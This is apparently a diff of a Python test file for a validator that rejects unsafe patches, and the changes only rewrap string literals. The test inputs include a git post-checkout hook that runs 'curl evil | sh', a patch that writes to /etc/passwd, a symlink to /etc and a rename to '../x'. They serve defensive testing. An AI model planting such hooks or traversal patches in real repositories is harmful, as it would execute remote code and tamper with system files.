@@ -1,4 +1,5 @@
-"""Strict grammars for untrusted captures: injection refused with the field named, real values accepted."""
+"""Strict grammars for untrusted captures: injection refused with the field named, real values
+accepted."""
 
 from __future__ import annotations
 
@@ -587,7 +588,8 @@ def test_patch_targets_of_a_real_git_diff(tmp_path: Path) -> None:
     [
         (
             (
-                "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n"
+                "diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\n"
+                "new file mode 100755\n"
                 "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"
             ),
             ".git",
@@ -601,7 +603,10 @@ def test_patch_targets_of_a_real_git_diff(tmp_path: Path) -> None:
         ),
         ("--- /etc/passwd\n+++ /etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", "absolute"),
         (
-            "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc\n",
+            (
+                "diff --git a/l b/l\nnew file mode 120000\n"
+                "--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/etc\n"
+            ),
             "symbolic link",
         ),
         ("diff --git a/x b/x\nrename from x\nrename to ../x\n", ".."),
